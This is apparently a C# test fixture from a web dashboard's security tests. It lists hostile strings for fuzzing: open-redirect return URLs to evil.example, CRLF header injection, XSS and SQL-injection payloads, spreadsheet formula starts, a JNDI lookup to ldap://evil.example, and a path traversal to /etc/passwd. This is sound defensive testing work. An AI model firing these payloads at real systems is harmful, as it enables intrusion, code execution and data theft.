namespace Dashboard.Web.Tests.Security.Hostile;

/// <summary>Generated hostile inputs: markup, injection, control characters, encodings, sizes, formula starts.</summary>
public static class HostileStrings
{
    /// <summary>Strings a person or a job could put anywhere text is accepted (NUL included).</summary>
    public static IReadOnlyList<string> All { get; } = Build();

    /// <summary>The ones PostgreSQL can store in a text column (no NUL), for rows written by hand.</summary>
    public static IReadOnlyList<string> Storable { get; } = [.. All.Where(s => !s.Contains('\0', StringComparison.Ordinal) && s.Length > 0 && !HasLoneSurrogate(s))];

    /// <summary>Return URLs that try to leave the site or smuggle characters into the Location header.</summary>
    public static IReadOnlyList<string> ReturnUrls { get; } =
    [
        "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example/x", "/\n/evil.example",
        "/\r/evil.example", "/\r\nSet-Cookie: a=b", "/%09/evil.example/x", "/%0d%0aSet-Cookie:%20a=b", "https://evil.example",
        "http:evil.example", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", " /x", "/ /evil.example",
        "/\u00a0/evil.example", "/\u3000/evil.example", "/\u2028/evil.example", "/\u0000/evil.example", "/x\u0000", "/\u001b[31m",
        "/<script>alert(1)</script>", "/\"><svg onload=alert(1)>", "/%2f%2fevil.example", "/.//evil.example", "/..//evil.example",
        "/\u202e/lpt", "/é", "/👩‍🚀", "", "/", "?x=1", "#frag", "/audit?actor=<b>", new string('/', 3) + "x",
        "/" + new string('a', 5000), "/\ud800", "/?returnUrl=//evil.example", "/signin?returnUrl=https://evil.example",
    ];

    private static List<string> Build()
    {
        var list = new List<string>
        {
            "", " ", "  padded  ", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<b>bold</b>", "</td></tr></table>",
            "javascript:alert(1)", "'; DROP TABLE jobs; --", "\" OR 1=1 --", "%", "_", "\\", "%00", "%0d%0a", "\0", "a\0b", "\r\n",
            "line1\nline2", "\t", "\u0007bell", "\u001b[31mred\u001b[0m", "\u007f", "\u0085", "\u202eevil\u202c", "\u200b", "\ufeffbom",
            "=1+2", "+cmd", "-2+3", "@SUM(A1)", " =1+2", "\t=1+2", ";=3+3", "|calc", "=HYPERLINK(\"http://evil\",\"x\")",
            "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "null", "undefined", "-1", "0", "99999999999999999999",
            "1e309", "NaN", "true", "[]", "{}", "{\"a\":1}", "2025-13-45T99:99:99Z", "é", "👩‍🚀", "Ω≈ç√", "\ud800",
            new string('x', 10_000),
        };
        return list;
    }

    public static bool HasLoneSurrogate(string value)
    {
        for (var i = 0; i < value.Length; i++)
        {
            if (char.IsHighSurrogate(value[i]) && (i + 1 >= value.Length || !char.IsLowSurrogate(value[i + 1])))
            {
                return true;
            }

            if (char.IsLowSurrogate(value[i]) && (i == 0 || !char.IsHighSurrogate(value[i - 1])))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>A short printable label for failure messages.</summary>
    public static string Label(string value)
    {
        var shown = new string([.. value.Take(40).Select(c => char.IsControl(c) || char.IsSurrogate(c) ? '·' : c)]);
        return $"'{shown}'{(value.Length > 40 ? $"…({value.Length})" : "")}";
    }

    /// <summary>Control characters a page or header must never carry raw (tab, CR and LF are ordinary HTML whitespace).</summary>
    public static bool HasRawControl(string text) => text.Any(c => (c < ' ' && c is not ('\t' or '\r' or '\n')) || c == '\u007f');
}
